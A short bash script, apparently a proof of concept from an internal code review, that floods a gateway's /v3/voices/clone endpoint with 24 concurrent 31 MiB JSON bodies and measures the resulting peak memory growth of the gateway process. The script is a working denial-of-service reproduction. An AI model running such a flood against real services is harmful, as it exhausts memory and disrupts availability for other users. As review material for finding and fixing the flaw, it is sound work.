#!/usr/bin/env bash
# R6 of the #19 review: one tenant token, 24 concurrent 31 MiB POST /v3/voices/clone bodies; each is parsed into a JsonNode
# before any slot is taken (and held while waiting in line), so the gateway's peak RSS grows ~190 MB per request.
# Usage: clone-flood.sh GATEWAY_URL TOKEN GATEWAY_PID   (measured on h-gateway 657f878: VmHWM 139 MB -> 4.75 GB)
set -eu
G=$1 T=$2 PID=$3
python3 -c 'import json;print(json.dumps({"voice_name":"big","audio":{"type":"base64","media_type":"audio/wav","data":"A"*(31*1024*1024)}}))' > /tmp/clone-flood.json
grep VmHWM /proc/$PID/status
for i in $(seq 1 24); do curl -s -o /dev/null -w "%{http_code} " "$G/v3/voices/clone" -H "X-Api-Key: $T" -H 'content-type: application/json' --data-binary @/tmp/clone-flood.json & done; wait; echo
grep VmHWM /proc/$PID/status
